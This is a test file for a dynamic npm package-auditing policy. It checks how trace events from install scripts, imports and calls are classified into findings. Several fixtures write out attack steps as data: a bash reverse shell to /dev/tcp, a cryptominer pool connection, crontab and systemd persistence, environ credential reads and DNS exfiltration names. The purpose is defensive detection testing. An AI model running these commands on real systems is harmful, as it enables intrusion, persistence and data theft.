/** The default policy's rules beyond the first six, rule by rule, on hand-built events. */
import { fileURLToPath } from 'node:url';
import test from 'ava';
import type { TraceEvent } from '../../../src/events/types.js';
import { evaluatePolicy } from '../../../src/policy/evaluate-policy.js';
import { loadPolicies } from '../../../src/policy/load-policy.js';
import { CONTEXT, HOME, NPM, PROJECT, connect, dns, exec, file, imported, script } from './helpers.js';

const policy = await loadPolicies([fileURLToPath(new URL('../../../policies/default.yaml', import.meta.url))]);

function rules(events: readonly TraceEvent[]): string[] {
  return evaluatePolicy(events, policy, CONTEXT).map((finding) => finding.rule);
}

const npm = exec(['node', '/usr/local/lib/node_modules/npm/bin/npm-cli.js', 'ci'], { pid: 100, parentPid: null, attribution: NPM });

test('npm running a package lifecycle script is a low install-script finding showing the script', (t) => {
  const wrapper = exec(['sh', '-c', 'node install.js'], { pid: 200, parentPid: 100, attribution: script('esbuild') });
  const [finding, ...rest] = evaluatePolicy([npm, wrapper], policy, CONTEXT);
  t.deepEqual(rest, []);
  t.like(finding, { rule: 'install-script', category: 'spawn', severity: 'low', summary: 'runs an install script (node install.js)' });
});

test('what an install script starts is not another install-script finding', (t) => {
  const wrapper = exec(['sh', '-c', 'node install.js'], { pid: 200, parentPid: 100 });
  const child = exec(['node', 'install.js'], { pid: 201, parentPid: 200 });
  t.deepEqual(rules([npm, wrapper, child]), ['install-script']);
});

test('a command run by child_process.exec in a script is not a shell-spawn finding', (t) => {
  const node = exec(['node', 'install/check'], { pid: 201, parentPid: 200 });
  t.deepEqual(rules([node, exec(['/bin/sh', '-c', 'pkg-config --modversion vips-cpp'], { pid: 202, parentPid: 201, executable: '/bin/sh' })]), []);
  t.deepEqual(rules([node, exec(['/bin/bash', '-ec', 'true'], { pid: 202, parentPid: 201, executable: '/bin/bash' })]), []);
});

test('a shell reading a piped download is a shell-spawn finding', (t) => {
  t.deepEqual(rules([exec(['sh'], { executable: '/bin/sh' })]), ['shell-spawn']);
});

test('a shell wired to /dev/tcp is a critical reverse-shell finding even inside sh -c', (t) => {
  const event = exec(['bash', '-c', 'bash >& /dev/tcp/203.0.113.9/4444 0>&1'], { executable: '/bin/bash' });
  t.deepEqual(rules([event]), ['reverse-shell']);
});

test('grep -i inside a sh -c command is not a reverse shell', (t) => {
  t.deepEqual(rules([exec(['/bin/sh', '-c', 'ls | grep -i foo'], { executable: '/bin/sh' })]), []);
});

test('node-gyp compiling is known-good: compiler temporaries and gyp bytecode caches are not findings', (t) => {
  const gyp = exec(['node', '/usr/local/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'], {
    pid: 300,
    parentPid: 200,
    executable: '/usr/local/bin/node',
  });
  const python = exec(['python3', 'gyp_main.py'], { pid: 301, parentPid: 300 });
  const make = exec(['make', 'BUILDTYPE=Release'], { pid: 302, parentPid: 300 });
  const cc1 = exec(['cc1plus'], { pid: 303, parentPid: 302, executable: '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus' });
  const events = [
    gyp,
    python,
    make,
    cc1,
    file('/usr/local/lib/node_modules/npm/node_modules/node-gyp/gyp/pylib/gyp/__pycache__', 'write', { pid: 301, operation: 'mkdir', ok: false, error: 'EROFS' }),
    file('/tmp/ccKUwccQ.s', 'write', { pid: 303 }),
    file(`${PROJECT}/node_modules/evil/build/Release/obj.target/evil.o`, 'write', { pid: 303 }),
    file(`${PROJECT}/node_modules/evil/build/node_gyp_bins/python3`, 'write', { pid: 300, operation: 'symlink', target: '/usr/bin/python3' }),
  ];
  t.deepEqual(rules(events), []);
});

test('python caching the bytecode of a package\'s own copy of gyp is a medium bytecode-cache-write; python writing anything else there, or node writing a .pyc, is write-outside-package', (t) => {
  const gypCopy = `${PROJECT}/node_modules/node-gyp/gyp/pylib/gyp`;
  const python = exec(['/usr/bin/python3', `${PROJECT}/node_modules/node-gyp/gyp/gyp_main.py`, 'binding.gyp'], { pid: 301, parentPid: 200, executable: '/usr/bin/python3' });
  const written = `${gypCopy}/__pycache__/input.cpython-311.pyc`;
  t.deepEqual(
    rules([
      python,
      file(`${gypCopy}/__pycache__`, 'write', { pid: 301, operation: 'mkdir' }),
      file(`${written}.140413097269344`, 'write', { pid: 301 }),
      file(`${written}.140413097269344`, 'write', { pid: 301, operation: 'rename', target: written }),
    ]),
    ['bytecode-cache-write', 'bytecode-cache-write', 'bytecode-cache-write'],
  );
  t.deepEqual(rules([python, file(`${gypCopy}/input.py`, 'write', { pid: 301 })]), ['write-outside-package'], 'a source file');
  t.deepEqual(rules([python, file(`${HOME}/.local/lib/__pycache__/site.cpython-311.pyc`, 'write', { pid: 301 })]), ['write-outside-package'], 'outside the project\'s packages');
  t.deepEqual(rules([exec(['node', 'x.js'], { pid: 201, parentPid: 200 }), file(written, 'write', { pid: 201 })]), ['write-outside-package'], 'not python');
});

test('prebuild-install caching the package\'s own addon in npm\'s _prebuilds folder is not a finding; a file named after another package there is', (t) => {
  const cached = `${HOME}/.npm/_prebuilds/41f5d2-canvas-v3.2.3-napi-v7-linux-x64.tar.gz`;
  const canvas = { pid: 60, attribution: script('canvas') };
  t.deepEqual(
    rules([
      file(`${HOME}/.npm/_prebuilds`, 'write', { ...canvas, operation: 'mkdir' }),
      file(`${cached}.51-d46d8fc41a47e.tmp`, 'write', canvas),
      file(`${cached}.51-d46d8fc41a47e.tmp`, 'write', { ...canvas, operation: 'rename', target: cached }),
    ]),
    [],
  );
  t.deepEqual(rules([file(`${HOME}/.npm/_prebuilds/0a1b2c-sharp-v0.32.6-napi-v7-linux-x64.tar.gz`, 'write', canvas)]), ['write-outside-package'], 'another package\'s addon');
  t.deepEqual(rules([file(`${cached}.tmp`, 'write', { ...canvas, operation: 'rename', target: `${HOME}/addon.tar.gz` })]), ['write-outside-package'], 'moved out of the cache');
});

test('moving its platform binary out of the platform package named after it into its own folder is not a finding; out of any other package it is', (t) => {
  const bun = { pid: 50, attribution: script('bun') };
  const own = `${PROJECT}/node_modules/bun/bin/bun.exe`;
  t.deepEqual(rules([file(`${PROJECT}/node_modules/@oven/bun-linux-x64/bin/bun`, 'write', { ...bun, operation: 'rename', target: own })]), []);
  t.deepEqual(rules([file(`${PROJECT}/node_modules/bun-linux-x64/bin/bun`, 'write', { ...bun, operation: 'rename', target: own })]), [], 'unscoped');
  t.deepEqual(rules([file(`${PROJECT}/node_modules/esbuild/bin/esbuild`, 'write', { ...bun, operation: 'rename', target: own })]), ['write-outside-package'], "another package's binary");
  t.deepEqual(rules([file(`${PROJECT}/node_modules/bun/bin/bun.exe`, 'write', { ...bun, operation: 'rename', target: `${PROJECT}/node_modules/@oven/bun-linux-x64/bin/bun` })]), ['write-outside-package'], 'into the platform package');
  t.deepEqual(rules([file(`${PROJECT}/node_modules/@oven/bun-linux-x64/bin/bun`, 'write', bun)]), ['write-outside-package'], 'writing in the platform package');
});

test('a terminal library opening a pseudo-terminal for the program it runs is not a write outside its folder; other devices are', (t) => {
  const called = { phase: 'execute' as const, attribution: { ...imported('node-pty'), call: 4, step: 'call' as const, argument: 'path' } };
  t.deepEqual(rules([file('/dev/ptmx', 'write', called), file('/dev/pts/ptmx', 'write', called), file('/dev/pts/3', 'write', called)]), []);
  t.deepEqual(rules([file('/dev/shm/payload', 'write', called)]), ['write-outside-package']);
  t.deepEqual(rules([file('/dev/pts/3/../../shm/x', 'write', called)]), ['write-outside-package'], 'a path that only starts like one');
});

test('npm run by an install script keeps its logs and compile cache unremarked; the script it runs writing npm\'s folder is write-outside-package', (t) => {
  const npm = exec(['node', '/usr/local/bin/npm', 'run', 'build'], { pid: 62, parentPid: 49, executable: '/usr/local/bin/node' });
  const build = exec(['node', 'build.js'], { pid: 63, parentPid: 62, executable: '/usr/local/bin/node', cwd: `${PROJECT}/node_modules/evil` });
  t.deepEqual(rules([npm, file(`${HOME}/.npm/_logs/2026-12-02T04_28_19_745Z-debug-0.log`, 'write', { pid: 62 }), file('/tmp/node-compile-cache/v22.23.5-x64-9de703df-1001/2b80aaeb', 'write', { pid: 62 })]), []);
  t.deepEqual(rules([npm, build, file(`${HOME}/.npm/_npx/0f1e2d3c/node_modules/cowsay/index.js`, 'write', { pid: 63 })]), ['write-outside-package'], 'planted where the next npx runs it');
  const copy = exec(['node', `${PROJECT}/node_modules/.bin/npm`], { pid: 64, parentPid: 49, executable: '/usr/local/bin/node' });
  t.deepEqual(rules([copy, file(`${HOME}/.npm/_npx/0f1e2d3c/node_modules/cowsay/index.js`, 'write', { pid: 64 })]), ['write-outside-package'], 'an npm of the package\'s own');
});

test('node-gyp keeping Node\'s headers in its cache is not a finding; a build action writing there is a cache-write warning', (t) => {
  const gyp = exec(['node', '/usr/local/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'], { pid: 300, parentPid: 200, executable: '/usr/local/bin/node' });
  const action = exec(['node', 'gen.js'], { pid: 305, parentPid: 300, executable: '/usr/local/bin/node' });
  const header = `${HOME}/.cache/node-gyp/22.23.5/include/node/node.h`;
  t.deepEqual(rules([gyp, file(header, 'write', { pid: 300 })]), []);
  t.deepEqual(rules([gyp, action, file(header, 'write', { pid: 305 })]), ['cache-write']);
});

test('a /tmp write outside a node-gyp build is still write-outside-package', (t) => {
  t.deepEqual(rules([exec(['node', 'x.js'], { pid: 201, parentPid: 200 }), file('/tmp/ccX.s', 'write', { pid: 201 })]), ['write-outside-package']);
});

test('git refreshing the index of the project checkout is git\'s own bookkeeping; git writing its config or hooks, or anything else writing the index, is not', (t) => {
  const constructed = { phase: 'execute' as const, attribution: { ...imported('pre-commit'), call: 2, step: 'construct' as const } };
  const git = exec(['git', 'status', '--porcelain'], { pid: 70, parentPid: 60, executable: '/usr/bin/git', ...constructed });
  t.deepEqual(rules([git, file(`${PROJECT}/.git/index.lock`, 'write', { pid: 70, ...constructed }), file(`${PROJECT}/.git/index`, 'write', { pid: 70, operation: 'rename', ...constructed })]), ['execute-spawn']);
  t.deepEqual(rules([git, file(`${PROJECT}/.git/config`, 'write', { pid: 70, ...constructed })]).sort(), ['execute-spawn', 'write-outside-package']);
  t.deepEqual(rules([exec(['node', 'x.js'], { pid: 71, parentPid: 60, ...constructed }), file(`${PROJECT}/.git/index.lock`, 'write', { pid: 71, ...constructed })]).sort(), ['execute-spawn', 'write-outside-package']);
  const hook = exec(['node', '.husky/pre-commit.js'], { pid: 72, parentPid: 70, ...constructed });
  t.true(rules([git, hook, file(`${PROJECT}/.git/index`, 'write', { pid: 72, ...constructed })]).includes('write-outside-package'), 'a hook or alias git runs is not git');
});

test('procps ps opening other processes environ is not a credential read, anything else reading it is', (t) => {
  const ps = exec(['ps'], { pid: 55, parentPid: 54, phase: 'import', attribution: imported('nodemon') });
  const read = file('/proc/1/environ', 'read', { pid: 55, phase: 'import', attribution: imported('nodemon') });
  t.deepEqual(rules([ps, read]), ['import-spawn']);
  t.deepEqual(rules([read]), ['credential-read']);
  const child = exec(['node', 'x.js'], { pid: 56, parentPid: 55, phase: 'import', attribution: imported('nodemon') });
  t.true(rules([ps, child, { ...read, pid: 56 }]).includes('credential-read'), 'what runs under ps is not ps');
});

test('writing a systemd user unit is a critical persistence finding', (t) => {
  t.deepEqual(rules([file(`${HOME}/.config/systemd/user/updater.service`, 'write')]), ['write-outside-package', 'persistence-write']);
});

test('running crontab is a persistence-spawn finding', (t) => {
  t.deepEqual(rules([exec(['crontab', '-'])]), ['persistence-spawn']);
});

test('running a program from /tmp is exec-from-temp', (t) => {
  t.deepEqual(rules([exec(['/tmp/.x/updater'], { executable: '/tmp/.x/updater' })]), ['exec-from-temp']);
  t.deepEqual(rules([exec(['./esbuild', '--version'], { executable: `${PROJECT}/node_modules/esbuild/bin/esbuild` })]), []);
});

test('a miner is a critical resource-abuse finding', (t) => {
  t.deepEqual(rules([exec(['./kworker', '-o', 'stratum+tcp://pool.example:3333'], { executable: `${PROJECT}/node_modules/evil/kworker` })]), [
    'cryptominer-spawn',
  ]);
});

test('looking for /.dockerenv and then working is a medium sandbox-probe finding, node reading its own cgroup is not', (t) => {
  const probe = { ...file('/.dockerenv', 'metadata', { operation: 'stat', ok: false, error: 'ENOENT' }), timestampMs: 1 };
  const work = { ...exec(['make']), timestampMs: 2 };
  t.deepEqual(rules([probe, work]), ['sandbox-probe']);
  t.deepEqual(rules([file('/proc/self/cgroup', 'read')]), []);
  t.deepEqual(rules([file('/proc/self/exe', 'metadata', { operation: 'readlink' })]), []);
});

test('an install script that probes and then does nothing more is high; an import that does the same stays medium', (t) => {
  const probe = file('/proc/self/status', 'read');
  t.deepEqual(rules([probe]), ['sandbox-probe', 'sandbox-probe-quiet']);
  t.deepEqual(rules([{ ...probe, phase: 'import', attribution: imported('pkg') }]), ['sandbox-probe']);
});

test('reading another process\'s entries is a probe, unless the system\'s ps lists processes', (t) => {
  t.deepEqual(rules([{ ...file('/proc/1/cmdline', 'read'), timestampMs: 1 }, { ...exec(['x']), timestampMs: 2 }]), ['sandbox-probe']);
  const ps = exec(['ps', 'ax'], { executable: '/usr/bin/ps', pid: 300 });
  t.deepEqual(rules([ps, { ...file('/proc/1/cmdline', 'read', { pid: 300 }), timestampMs: 2 }]), []);
  const fake = exec(['ps', 'ax'], { executable: `${PROJECT}/node_modules/evil/bin/ps`, pid: 301 });
  t.true(rules([fake, { ...file('/proc/1/cmdline', 'read', { pid: 301 }), timestampMs: 2 }]).includes('sandbox-probe'));
  const top = exec(['top', '-b'], { executable: '/usr/bin/top', pid: 302 });
  const underTop = exec(['node', 'x.js'], { pid: 303, parentPid: 302 });
  t.true(rules([top, underTop, { ...file('/proc/1/cmdline', 'read', { pid: 303 }), timestampMs: 2 }]).includes('sandbox-probe'), 'a command top runs is not top');
});

test('a program started while the package is loaded is import-spawn, the loader itself is not', (t) => {
  const loader = exec(['node', 'load-package.mjs'], { pid: 10, parentPid: null, phase: 'import', attribution: imported('pkg') });
  const git = exec(['git', 'rev-parse', 'HEAD'], { pid: 11, parentPid: 10, phase: 'import', attribution: imported('pkg') });
  t.deepEqual(rules([loader]), []);
  t.deepEqual(rules([loader, git]), ['import-spawn']);
});

test('a program started by a call of the execute phase is execute-spawn, a run of the package\'s own bin is not', (t) => {
  const consumer = exec(['node', `${PROJECT}/app.cjs`, 'execute'], { pid: 10, parentPid: null, phase: 'execute', attribution: imported('pkg') });
  const git = exec(['git', 'rev-parse', 'HEAD'], { pid: 11, parentPid: 10, phase: 'execute', attribution: { ...imported('pkg'), call: 4 } });
  const bin = exec([`${PROJECT}/node_modules/.bin/pkg-cli`, '--help'], { pid: 12, parentPid: 10, phase: 'execute', attribution: { ...imported('pkg'), call: 5 } });
  const binNode = exec(['node', `${PROJECT}/node_modules/.bin/pkg-cli`, '--help'], { pid: 12, parentPid: 10, phase: 'execute', attribution: { ...imported('pkg'), call: 5 } });
  t.deepEqual(rules([consumer, bin, binNode]), []);
  t.deepEqual(rules([consumer, git]), ['execute-spawn']);
});

test('the id juggling of make children during a node-gyp build is not privilege-escalation, a setuid elsewhere is', (t) => {
  const make = exec(['make', 'BUILDTYPE=Release', '-C', 'build'], { pid: 75, parentPid: 50 });
  const child = exec(['printf', '%s\n', 'CXX(target) x.o'], { pid: 76, parentPid: 75 });
  const setresuid = (pid: number): TraceEvent => ({
    phase: 'install',
    pid,
    timestampMs: 1_700_000_000_000,
    attribution: script('fs-ext'),
    ok: true,
    kind: 'syscall',
    syscall: 'setresuid',
    detail: '-1, 1001, -1',
  });
  t.deepEqual(rules([make, child, setresuid(76)]), []);
  t.deepEqual(rules([exec(['node', 'x.js'], { pid: 90, parentPid: 50 }), setresuid(90)]), ['privilege-escalation']);
});

test('opening a batch import marker from package code is a critical forgery finding', (t) => {
  const forged = file('/dev/null/dynaudit-import-marker/start/7/aaaaaaaaaaaaaaaaaaaaaaaa/bbbbbbbbbbbbbbbbbbbbbbbb', 'read', { ok: false, phase: 'import', attribution: imported('forger') });
  t.deepEqual(rules([forged]), ['batch-marker-forgery']);
});

test('opening a consumer step marker from package code is a critical forgery finding', (t) => {
  const forged = file('/dev/null/dynaudit-call-marker/start/3/aaaaaaaaaaaaaaaaaaaaaaaa/bbbbbbbbbbbbbbbbbbbbbbbb/e30', 'read', { ok: false, phase: 'execute', attribution: { ...imported('forger'), call: 2 } });
  t.deepEqual(rules([forged]), ['call-marker-forgery']);
});

test('reaching the URL the execute phase handed to a function is what the caller asked, the same name elsewhere is not', (t) => {
  const asked = { phase: 'execute' as const, attribution: { ...imported('client'), call: 21 } };
  const lookup = dns('api.caller.example', asked);
  const connection = { ...connect('198.51.100.129', 443, asked), hostname: 'api.caller.example' };
  t.deepEqual(rules([lookup, connection]), []);
  t.deepEqual(rules([{ ...lookup, phase: 'import' }]), ['dns-query']);
  t.deepEqual(rules([dns('collect.example', asked)]), ['dns-query']);
});

test('looking up localhost and connecting there is the machine talking to itself; a name below localhost, or a connection elsewhere, is not excused', (t) => {
  const used = { phase: 'execute' as const, attribution: { ...imported('mailer'), call: 9 } };
  t.deepEqual(rules([dns('localhost', used), { ...connect('127.0.0.1', 587, used), hostname: 'localhost' }]), []);
  t.deepEqual(rules([dns('localhost', { phase: 'import', attribution: imported('mailer') })]), [], 'when loaded too');
  t.deepEqual(rules([dns('c2VjcmV0.localhost', used)]), ['dns-query'], 'a name below it can still carry data to a resolver');
  t.deepEqual(rules([{ ...connect('198.51.100.129', 587, used), hostname: 'localhost' }]), ['network-connect']);
});

test('writing the path the execute phase handed to a function is what the caller asked, writing the project\'s package.json is not', (t) => {
  const asked = { phase: 'execute' as const, attribution: { ...imported('remover'), call: 32 } };
  t.deepEqual(rules([file(`${PROJECT}/data/input.json`, 'write', asked)]), []);
  t.deepEqual(rules([file(`${PROJECT}/package.json`, 'write', asked)]), ['write-outside-package']);
  t.deepEqual(rules([file(`${PROJECT}/data/input.json`, 'write', { ...asked, phase: 'import' })]), ['write-outside-package']);
});

test('the package\'s code making temporary files in /tmp, loaded or used, is a medium temp-file-write; an install script doing so is write-outside-package', (t) => {
  const called = (step: 'call' | 'construct' | 'bin' | 'wait' | 'load') => ({ phase: 'execute' as const, attribution: { ...imported('lmdb'), call: 72, step } });
  const written = evaluatePolicy([file('/tmp/j0j4vm6d.mdb', 'write', called('call'))], policy, CONTEXT);
  t.deepEqual(written.map((finding) => `${finding.rule} ${finding.severity}: ${finding.summary}`), ['temp-file-write medium: writes a temporary file when loaded or used, at /tmp/j0j4vm6d.mdb']);
  t.deepEqual(rules([file('/var/tmp/cache/x', 'write', called('construct'))]), ['temp-file-write']);
  t.deepEqual(rules([file('/tmp/tmp-100-Ziitlfvn6Ymh', 'write', called('wait'))]), ['temp-file-write'], 'what the calls left running, in the closing wait');
  t.deepEqual(rules([file('/tmp/jest_rt', 'write', { ...called('bin'), operation: 'mkdir' }), file('/tmp/jest_rt/haste-map-6e0d', 'write', called('bin'))]), ['temp-file-write', 'temp-file-write'], 'jest run in the project keeps its haste map there');
  t.deepEqual(rules([file('/tmp/tsx-1001/17961-39a4', 'write', { phase: 'import', attribution: { ...imported('tsx'), call: 1, step: 'load' } })]), ['temp-file-write'], 'tsx keeps its compile cache there when loaded');
  t.deepEqual(rules([file('/tmp/v8-compile-cache-1001/x.BLOB', 'write', { phase: 'import', attribution: imported('ts-node') })]), ['temp-file-write']);
  t.deepEqual(rules([file('/tmp/x.sh', 'write', { attribution: script('lmdb') })]), ['write-outside-package'], 'an install script');
  t.deepEqual(rules([exec(['/tmp/.x/updater'], { executable: '/tmp/.x/updater', phase: 'execute', attribution: { ...imported('lmdb'), call: 72, step: 'call' } })]), ['exec-from-temp', 'execute-spawn'], 'running what it put there is not');
});

test('caching in another folder of ~/.cache, in any phase, is a medium cache-write; the package\'s own cache is not counted, running a program from there is exec-from-temp', (t) => {
  const used = (name: string, step: 'call' | 'bin' | 'wait') => ({ phase: 'execute' as const, attribution: { ...imported(name), call: 3, step } });
  const written = evaluatePolicy([file(`${HOME}/.cache/js-v8flags/.v8flags-3-12.4.json`, 'write', used('gulp-cli', 'call'))], policy, CONTEXT);
  t.deepEqual(written.map((finding) => `${finding.rule} ${finding.severity}: ${finding.summary}`), [`cache-write medium: caches something in another folder of ~/.cache, at ${HOME}/.cache/js-v8flags/.v8flags-3-12.4.json`]);
  t.deepEqual(rules([file(`${HOME}/.cache/biome/x`, 'write', used('@biomejs/biome', 'bin'))]), ['cache-write']);
  t.deepEqual(rules([file(`${HOME}/.cache/swc-native-1001/v1/core.node`, 'write', { attribution: script('@swc/core') })]), ['cache-write'], 'an install script');
  t.deepEqual(rules([file(`${HOME}/.cache/swc-native-1001/v1/.swc-native-prune.lock`, 'write', { phase: 'import', attribution: imported('parcel') })]), ['cache-write'], 'a loading');
  t.deepEqual(rules([file(`${HOME}/.cache/prettier/x`, 'write', used('prettier', 'bin'))]), [], 'its own');
  t.deepEqual(rules([file(`${HOME}/.cache/x/../../.bashrc`, 'write', { operation: 'rename', target: `${HOME}/.bashrc`, attribution: script('evil') })]).sort(), ['cache-write', 'persistence-write', 'write-outside-package'], 'a rename out of the cache');
  t.deepEqual(rules([exec([`${HOME}/.cache/swc-native-1001/stage`], { executable: `${HOME}/.cache/swc-native-1001/stage`, attribution: script('evil') })]), ['exec-from-temp']);
});

test('an install script setting up a git hook in the project is a medium git-hook-write naming it, and loading code that does so is write-outside-package', (t) => {
  const hook = `${PROJECT}/.git/hooks/pre-commit`;
  const installed = evaluatePolicy([file(`${PROJECT}/.git/hooks`, 'write', { operation: 'mkdir', attribution: script('pre-commit') }), file(hook, 'write', { attribution: script('pre-commit') })], policy, CONTEXT);
  t.deepEqual(
    installed.map((finding) => `${finding.rule} ${finding.severity}: ${finding.summary}`),
    [`git-hook-write medium: installs a git hook at ${PROJECT}/.git/hooks`, `git-hook-write medium: installs a git hook at ${hook}`],
  );
  t.deepEqual(rules([file(hook, 'write', { phase: 'import', attribution: imported('pre-commit') })]), ['write-outside-package']);
  t.deepEqual(rules([file(`${PROJECT}/.git/config`, 'write', { attribution: script('pre-commit') })]), ['write-outside-package'], 'the repository itself is not a hook');
});

test('a bin run in the project changing the project\'s package.json is a medium project-file-write, not write-outside-package', (t) => {
  const bin = { phase: 'execute' as const, attribution: { ...imported('husky'), call: 5, step: 'bin' as const } };
  t.deepEqual(rules([file(`${PROJECT}/package.json`, 'write', bin)]), ['project-file-write']);
  t.deepEqual(rules([file(`${PROJECT}/package.json`, 'write', { ...bin, attribution: { ...bin.attribution, step: 'call' as const } })]), ['write-outside-package'], 'a function call is not a bin run');
  t.deepEqual(rules([file(`${PROJECT}/package.json`, 'write', { ...bin, attribution: imported('husky') })]), ['write-outside-package'], 'outside any step');
});

test('a bin run in the project building into its folders or into the dot folder named after the package is a medium project-file-write', (t) => {
  const bin = (name: string) => ({ phase: 'execute' as const, attribution: { ...imported(name), call: 9, step: 'bin' as const } });
  const written = evaluatePolicy([file(`${PROJECT}/.next/cache/config.json`, 'write', bin('next'))], policy, CONTEXT);
  t.deepEqual(written.map((finding) => `${finding.rule} ${finding.severity}: ${finding.summary}`), [`project-file-write medium: a bin run in the project changes the project's ${PROJECT}/.next/cache/config.json`]);
  t.deepEqual(rules([file(`${PROJECT}/.husky/_/pre-commit`, 'write', bin('husky'))]), ['project-file-write']);
  t.deepEqual(rules([file(`${PROJECT}/--help/_/pre-commit`, 'write', bin('husky'))]), ['project-file-write'], 'husky takes --help for its hooks folder');
  t.deepEqual(rules([file(`${PROJECT}/dist/index.js`, 'write', { ...bin('tsup'), operation: 'rename', target: `${PROJECT}/dist/index.mjs` })]), ['project-file-write']);
  t.deepEqual(rules([file(`${PROJECT}/.next/cache/config.json`, 'write', bin('evil'))]), ['write-outside-package'], 'another package\'s dot folder');
  t.deepEqual(rules([file(`${PROJECT}/.parcel-cache/data.mdb`, 'write', bin('parcel'))]), ['project-file-write'], 'the dot folder of its cache');
  t.deepEqual(rules([file(`${PROJECT}/.parcel-cache/data.mdb`, 'write', { phase: 'import', attribution: { ...imported('parcel'), call: 0, step: 'bin' as const } })]), ['project-file-write'], 'loading a main that is its bin');
  t.deepEqual(rules([file(`${PROJECT}/.parcel-cache/data.mdb`, 'write', { phase: 'import', attribution: { ...imported('parcel'), call: 0, step: 'load' as const } })]), ['write-outside-package'], 'a plain loading');
  t.deepEqual(rules([file(`${PROJECT}/.parcel-cache/data.mdb`, 'write', bin('evil'))]), ['write-outside-package'], 'another package\'s cache folder');
  t.deepEqual(rules([file(`${PROJECT}/dist/index.js`, 'write', { ...bin('tsup'), attribution: { ...bin('tsup').attribution, step: 'wait' as const } })]), ['write-outside-package'], 'what it left running');
});

test('a bin run in the project writing node_modules, other dotfiles or the folders that act on their own stays write-outside-package, its app entry is critical', (t) => {
  const bin = (name: string) => ({ phase: 'execute' as const, attribution: { ...imported(name), call: 7, step: 'bin' as const } });
  t.deepEqual(rules([file(`${PROJECT}/.git/hooks/pre-commit`, 'write', bin('hooker'))]), ['write-outside-package']);
  t.deepEqual(rules([file(`${PROJECT}/.npmrc`, 'write', bin('hooker'))]), ['write-outside-package']);
  t.deepEqual(rules([file(`${PROJECT}/.github/workflows/ci.yml`, 'write', bin('hooker'))]), ['write-outside-package']);
  t.deepEqual(rules([file(`${PROJECT}/node_modules/other/index.js`, 'write', bin('hooker'))]), ['write-outside-package']);
  t.deepEqual(rules([file(`${HOME}/notes.txt`, 'write', bin('hooker'))]), ['write-outside-package']);
  t.deepEqual(rules([file(`${PROJECT}/.vscode/tasks.json`, 'write', bin('vscode'))]), ['write-outside-package'], 'a package named after a folder that acts on its own');
  t.deepEqual(rules([file(`${PROJECT}/.git/hooks/pre-commit`, 'write', bin('git'))]), ['write-outside-package']);
  t.deepEqual(
    rules([file(`${PROJECT}/stage.js`, 'write', { ...bin('hooker'), operation: 'rename', target: `${PROJECT}/node_modules/lodash/index.js` })]).sort(),
    ['project-file-write', 'write-outside-package'],
    'a file of the project moved into node_modules',
  );
  t.deepEqual(rules([file(`${PROJECT}/package.json`, 'write', { ...bin('hooker'), operation: 'rename', target: `${HOME}/.bashrc` })]).sort(), ['persistence-write', 'project-file-write', 'write-outside-package']);
  t.true(rules([file(`${PROJECT}/app.cjs`, 'write', bin('hooker'))]).includes('consumer-entry-write'));
  t.deepEqual(rules([file(`${PROJECT}/app.mjs`, 'write', { ...bin('hooker'), attribution: { ...bin('hooker').attribution, step: 'call' as const } })]).sort(), ['consumer-entry-write', 'write-outside-package']);
});
